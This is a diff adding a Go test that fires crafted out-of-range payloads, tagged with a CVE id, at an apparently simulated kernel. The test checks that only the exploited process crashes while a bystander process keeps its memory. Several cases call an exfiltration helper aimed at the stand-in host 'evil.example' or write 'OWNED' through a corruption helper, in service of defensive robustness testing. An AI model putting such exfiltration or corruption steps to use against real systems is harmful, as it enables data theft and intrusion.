@@ -311,3 +311,49 @@ func TestMalformedPayloads(t *testing.T) {
 		}
 	}
 }
+
+// TestOutOfRangePayloadsCrashOnlyTheVictim fires payloads whose range wraps
+// the address space or whose length no region could hold. Each is a wild
+// access: the exploited process dies, and another process of the same
+// kernel lives on with its memory intact.
+func TestOutOfRangePayloadsCrashOnlyTheVictim(t *testing.T) {
+	const cve = "CVE-2017-12597"
+	top := ^mem.Addr(0)
+	for _, c := range []struct {
+		name    string
+		crafted func(crit mem.Region) []byte
+	}{
+		{"exfil wraps", func(mem.Region) []byte { return attack.Exfiltrate(cve, top-10, 100, "evil.example") }},
+		{"exfil huge", func(crit mem.Region) []byte { return attack.Exfiltrate(cve, crit.Base, 1<<62, "evil.example") }},
+		{"exfil negative", func(crit mem.Region) []byte { return attack.Exfiltrate(cve, crit.Base, -1, "evil.example") }},
+		{"corrupt wraps", func(mem.Region) []byte { return attack.Corrupt(cve, top-1, []byte("OWNED")) }},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			log := &attack.Log{}
+			k, ctx, crit := victim(t, log)
+			other := k.Spawn("bystander")
+			r, err := other.Space().Alloc(64)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := other.Space().Store(r.Base, []byte("bystander-data")); err != nil {
+				t.Fatal(err)
+			}
+			if err := fire(t, k, ctx, c.crafted(crit)); err == nil {
+				t.Fatal("expected error")
+			}
+			if out := log.Last(); !out.Crashed || out.Corrupted || out.Leaked != nil {
+				t.Fatalf("outcome = %+v", out)
+			}
+			if ctx.P.Alive() {
+				t.Fatal("a wild access should crash the exploited process")
+			}
+			if !other.Alive() {
+				t.Fatal("the bystander process died")
+			}
+			if got, err := other.Space().Load(r.Base, 14); err != nil || string(got) != "bystander-data" {
+				t.Fatalf("bystander memory = %q, %v", got, err)
+			}
+		})
+	}
+}
